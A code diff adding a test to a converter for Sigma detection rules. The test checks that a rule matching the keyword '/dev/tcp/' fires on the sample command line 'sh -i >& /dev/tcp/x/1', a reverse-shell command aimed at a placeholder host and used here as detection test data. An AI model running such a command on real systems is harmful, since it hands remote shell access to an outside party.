@@ -9,6 +9,7 @@ import {
   load,
   processRule,
   programs,
+  raisedBy,
   refusal,
   ruleOn,
 } from './sigma.test-kit.ts';
@@ -390,6 +391,20 @@ test('which rules are tried', () => {
     [25],
   );
   assert.equal(convert(text, { statuses: new Set(['deprecated']) }).rules.length, 1);
+});
+
+test('words of logs, looked for in command lines where that is wanted', async () => {
+  const rule =
+    'title: Words\nlogsource: {product: linux}\ndetection:\n  words: [/dev/tcp/]\n  condition: words\n';
+  assert.equal(convert(rule).rules[0]?.outcome, 'not converted');
+  const conversion = convert(rule, { logWords: true });
+  assert.equal(conversion.rules[0]?.outcome, 'in part');
+  assert.match(
+    conversion.text,
+    /^# left out: logs of any kind: words are looked for in command lines alone$/m,
+  );
+  const raised = await raisedBy(conversion, lines('sh -i >& /dev/tcp/x/1', 'sh'));
+  assert.deepEqual(raised, [['Words'], []]);
 });
 
 test('filters except from the rules that they name', async () => {
